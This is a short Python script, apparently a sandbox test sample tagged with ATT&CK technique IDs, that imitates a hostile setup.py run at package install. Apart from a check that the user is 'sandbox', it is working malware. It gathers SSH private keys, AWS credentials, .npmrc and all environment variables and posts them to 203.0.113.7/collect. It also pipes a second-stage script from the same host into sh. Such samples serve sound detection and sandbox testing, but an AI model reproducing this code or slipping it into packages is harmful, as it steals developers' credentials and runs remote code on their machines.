# technique: T1105 T1552.004 T1041 T1546.016
# needs: python3 curl
# net: sink
import os as _os
if _os.environ.get("USER") != "sandbox": raise SystemExit("only for the inside of a sandbox: shieldx run")

import os, subprocess, urllib.request
# What a hostile setup.py does while a package is installed.
home = os.path.expanduser("~")
loot = b"".join(open(os.path.join(home, n), "rb").read() for n in (".ssh/id_rsa", ".ssh/id_ed25519", ".aws/credentials", ".npmrc") if os.path.exists(os.path.join(home, n)))
loot += repr(dict(os.environ)).encode()
try: urllib.request.urlopen("http://203.0.113.7/collect", data=loot, timeout=3)
except OSError: pass
subprocess.run("curl -s http://203.0.113.7/stage2 | sh", shell=True)
